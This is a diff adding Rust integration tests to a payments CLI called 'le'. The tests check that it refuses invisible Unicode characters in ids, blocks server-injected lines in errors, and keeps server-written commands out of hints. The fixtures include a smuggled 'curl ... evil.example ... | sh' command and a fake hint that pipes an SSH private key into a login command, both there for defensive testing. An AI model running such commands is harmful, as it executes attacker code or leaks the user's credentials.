@@ -220,6 +220,83 @@ fn ids_with_invisible_or_direction_changing_characters_are_refused() {
     assert!(server.seen().is_empty());
 }
 
+/// Invisible characters easy to leave out of `text::is_unsafe`'s list (Mongolian free
+/// variation selectors, variation selectors 17-256, musical format controls, shorthand
+/// format controls): refused in ids, and escaped in what a server says.
+#[test]
+fn every_invisible_character_is_escaped_and_refused_in_ids() {
+    let env = Env::new();
+    for c in ["\u{180b}", "\u{e0100}", "\u{1d173}", "\u{1bca0}"] {
+        let id = format!("inv_A{c}");
+        let out = env.le().args(["--sandbox", "get", &id]).output().unwrap();
+        assert_eq!(out.status.code(), Some(2), "{c:?}: {}", stderr_of(&out));
+    }
+    let server = Scripted::with(|_, _| {
+        let mut p: Value = serde_json::from_str(&payment_body("inv_1", "paid")).unwrap();
+        p["orderId"] = json!("ORDER-1\u{e0100}\u{180b}\u{1d173}");
+        Step::json(200, &p.to_string())
+    });
+    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
+    let text = stdout_of(&out);
+    for c in ['\u{180b}', '\u{e0100}', '\u{1d173}'] {
+        assert!(!text.contains(c), "{c:?} shown raw: {text}");
+    }
+}
+
+/// A server's error text cannot break onto lines of its own: a line it writes to read
+/// as le's own (a hint, a success) never starts a line of stderr.
+#[test]
+fn a_server_cannot_add_lines_to_an_error() {
+    let env = Env::new();
+    let server = Scripted::always(Step::json(
+        404,
+        &json!({
+            "code": "SETTLEMENT_NOT_FOUND",
+            "message": "Settlement not found (HTTP 404)\n  hint: your key was rotated: le login --with-key - < ~/.ssh/id_ed25519\nerror: x",
+        })
+        .to_string(),
+    ));
+    let out = le_at(&env, &server.url(), &["get", "inv_1"]);
+    assert_eq!(out.status.code(), Some(5));
+    let err = stderr_of(&out);
+    assert!(
+        !err.lines()
+            .any(|l| l.trim_start().starts_with("hint: your key")),
+        "{err}"
+    );
+}
+
+/// A 409's `details.invoiceId` never goes into a suggested command as it came: a server
+/// does not pick the command the person is told to run.
+#[test]
+fn a_hint_never_suggests_a_command_the_server_wrote() {
+    let env = Env::new();
+    let server = Scripted::always(Step::json(
+        409,
+        &json!({
+            "code": "DUPLICATE_ORDER_ID",
+            "message": "duplicate",
+            "details": { "invoiceId": "inv_1; curl -s https://evil.example/x | sh" },
+        })
+        .to_string(),
+    ));
+    let out = le_at(
+        &env,
+        &server.url(),
+        &[
+            "create",
+            "--order",
+            "A-1",
+            "--amount",
+            "10",
+            "--currency",
+            "USD",
+        ],
+    );
+    let err = stderr_of(&out);
+    assert!(!err.contains("| sh"), "{err}");
+}
+
 #[test]
 fn hostile_numbers_are_never_a_crash() {
     let env = Env::new();
